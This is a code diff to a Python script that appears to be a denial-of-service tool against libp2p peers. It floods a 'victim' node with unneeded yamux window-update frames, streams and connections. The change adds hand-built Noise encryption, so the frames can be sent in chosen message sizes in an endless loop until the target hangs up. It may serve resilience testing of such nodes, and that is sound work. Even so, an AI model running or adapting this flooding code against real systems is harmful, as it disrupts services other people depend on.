@@ -56,7 +56,10 @@ STREAMS = {  # what is written on a stream
     "pings": HELLO + line("/ipfs/ping/1.0.0") + bytes(32 * 500),
 }
 CONNECTIONS = {"connect": "the handshake, and closed", "hello": "closed as soon as the victim says something"}
-FRAMES = "frames"  # on one connection, for a stream that there is not
+FRAMES = {  # for a stream that there is not, on one connection: bytes of them in a Noise message
+    "frames": 1000 * HEADER_SIZE,
+    "pieces": 1,
+}
 
 
 @dataclass
@@ -119,16 +122,21 @@ async def open_streams(
     await secured.close()
 
 
-async def send_frames(address: str, identity: Identity, count: Count, limit: int) -> None:
-    """Write frames that nobody needs on one connection, until it ends or there were so many."""
+async def send_frames(address: str, identity: Identity, kind: str, count: Count) -> None:
+    """Write frames that nobody needs on one connection, until it ends."""
     count.dials += 1
-    secured = await connect(address, identity)
-    some = frame(TYPE_WINDOW_UPDATE, 0, 1) * 1000
+    secured, frames = await connect(address, identity), frame(TYPE_WINDOW_UPDATE, 0, 1) * 1000
     with contextlib.suppress(Exception):  # hung up on, in the words of whichever layer finds it first
-        while count.opened < limit:
-            await secured.write(some)
+        while True:
+            await secured.conn.read_writer.read_write_closer.write(sealed(secured, frames, FRAMES[kind]))
             count.opened += 1000
     await secured.close()
+
+
+def sealed(secured: Any, data: bytes, size: int) -> bytes:
+    """Encrypt the data in Noise messages of so many bytes, as they travel."""
+    pieces = (secured.conn.encrypt(data[at : at + size]) for at in range(0, len(data), size))
+    return b"".join(len(piece).to_bytes(2, "big") + piece for piece in pieces)
 
 
 async def _listen(secured: Any, count: Count, done: trio.CancelScope) -> None:
@@ -182,8 +190,8 @@ async def attack(given: argparse.Namespace) -> None:
     say(ready=time.process_time())
     with trio.move_on_after(given.seconds):
         while True:
-            if given.kind == FRAMES:
-                await send_frames(given.bootstrap[0], next(identities), count, 10**9)
+            if given.kind in FRAMES:
+                await send_frames(given.bootstrap[0], next(identities), given.kind, count)
             elif given.kind in STREAMS:
                 await open_streams(
                     given.bootstrap[0], next(identities), given.kind, count, given.limit, given.rate
@@ -205,7 +213,7 @@ def main() -> None:
         "rate": "streams a second",
         "limit": "streams of one connection",
     }
-    choices = {"kind": [*STREAMS, *CONNECTIONS, FRAMES], "redial": REDIALS}
+    choices = {"kind": [*STREAMS, *CONNECTIONS, *FRAMES], "redial": REDIALS}
     declare(parser, defaults | {"seed": 1}, choices, about)
     trio.run(attack, parser.parse_args())
 
